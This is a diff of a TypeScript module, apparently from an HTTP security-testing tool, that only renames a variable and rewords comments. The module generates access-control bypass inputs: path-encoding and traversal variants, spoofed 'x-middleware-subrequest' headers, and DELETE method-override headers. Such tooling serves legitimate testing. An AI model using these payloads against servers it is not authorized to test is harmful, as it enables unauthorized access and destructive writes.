@@ -1,12 +1,12 @@
 import type { HttpRequest } from "./http-client";
 
-/** Other ways to write an address that a careless server takes for the same, or for one that it does not guard. */
+/** Alternative spellings of a path that a careless server treats as the same path, or as one that it does not guard. */
 export function pathVariants(address: string): string[] {
   const [path = "", query] = address.split("?");
   const [, first = "", ...rest] = path.split("/");
   const end = query ? `?${query}` : "";
   const under = (start: string) => [start, ...rest].join("/");
-  const letter = `%${first.charCodeAt(0).toString(16)}`;
+  const encodedFirst = `%${first.charCodeAt(0).toString(16)}`;
   return [
     `${path}/`,
     `${path}//`,
@@ -15,8 +15,8 @@ export function pathVariants(address: string): string[] {
     under(`/./${first}`),
     under(`/nowhere/../${first}`),
     under(`/nowhere/%2e%2e/${first}`),
-    under(`/${letter}${first.slice(1)}`),
-    under(`/%25${letter.slice(1)}${first.slice(1)}`),
+    under(`/${encodedFirst}${first.slice(1)}`),
+    under(`/%25${encodedFirst.slice(1)}${first.slice(1)}`),
     under(`/${first.toUpperCase()}`),
     `${path}/.`,
     `${path}%2f`,
@@ -37,7 +37,7 @@ export function pathVariants(address: string): string[] {
   ].map((disguise) => disguise + end);
 }
 
-/** Headers by which servers and proxies once could be talked into something. */
+/** Headers that some servers and proxies have trusted when they should not. */
 export const SPOOFED_HEADERS: readonly Record<string, string>[] = [
   ...["proxy", "src/proxy", "middleware", "src/middleware", "pages/_middleware"].map((name) => ({
     "x-middleware-subrequest": Array(5).fill(name).join(":"),
@@ -67,7 +67,7 @@ export const SPOOFED_HEADERS: readonly Record<string, string>[] = [
   { "x-http-method-override": "DELETE", "x-method-override": "DELETE", "x-http-method": "DELETE" },
 ];
 
-/** Ways to have a write done by a request that is none, or that is another. */
+/** Ways to smuggle a write into a request that looks like a read, or like another write. */
 export function methodOverrides(address: string): Pick<HttpRequest, "method" | "path" | "headers">[] {
   const override = {
     "x-http-method-override": "DELETE",
